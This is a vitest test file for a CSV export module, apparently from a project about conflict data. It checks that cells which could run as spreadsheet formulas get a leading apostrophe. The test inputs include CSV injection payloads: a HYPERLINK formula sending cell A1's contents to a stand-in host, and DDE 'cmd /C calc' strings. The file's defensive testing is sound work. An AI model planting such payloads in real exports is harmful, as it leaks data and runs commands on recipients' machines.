// CSV cells that spreadsheets never run as formulas (OWASP "CSV Injection"), one test per rule (issue 13).
import { describe, expect, it } from "vitest";
import { csvLines, csvNumber, csvText, withoutFormula } from "~/models/csv";

describe("csvText", () => {
  it.each([
    ["=", '=HYPERLINK("https://evil.example?"&A1,"Open")'],
    ["+", "+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["a tab", "\t=1+1"],
    ["a carriage return", "\r=1+1"],
    ["a full-width equals sign", "＝1+1"],
  ])("puts an apostrophe before a cell starting with %s", (_rule, title) => {
    expect(withoutFormula(title)).toBe(`'${title}`);
    expect(csvText(title)).toBe(`"'${title.replaceAll('"', '""')}"`);
  });

  it("leaves other text as written, quoted, with its quotes doubled", () => {
    expect(csvText("Mali, Ségou — local truce")).toBe('"Mali, Ségou — local truce"');
    expect(csvText('The "Ségou" talks')).toBe('"The ""Ségou"" talks"');
    expect(csvText("a=b; c=d")).toBe('"a=b; c=d"');
    expect(csvText("")).toBe('""');
  });

  it("quotes every text cell, so that a semicolon (French Excel's separator) cannot start a formula cell", () => {
    expect(csvText("Truce;=1+1")).toBe('"Truce;=1+1"');
  });
});

describe("csvNumber", () => {
  it("keeps numbers, negative ones included, and the 0/1 cells R reads, as they are", () => {
    expect(csvNumber(1)).toBe("1");
    expect(csvNumber(0)).toBe("0");
    expect(csvNumber(-3)).toBe("-3");
    expect(csvNumber(0.75)).toBe("0.75");
    expect(csvNumber(null)).toBe("");
    expect(() => csvNumber(Number.NaN)).toThrow();
  });
});

describe("csvLines", () => {
  it("ends every line with CRLF", () => {
    expect(
      csvLines([
        [csvText("case"), csvText("A")],
        [csvText("x"), csvNumber(1)],
      ]),
    ).toBe('"case","A"\r\n"x",1\r\n');
  });
});
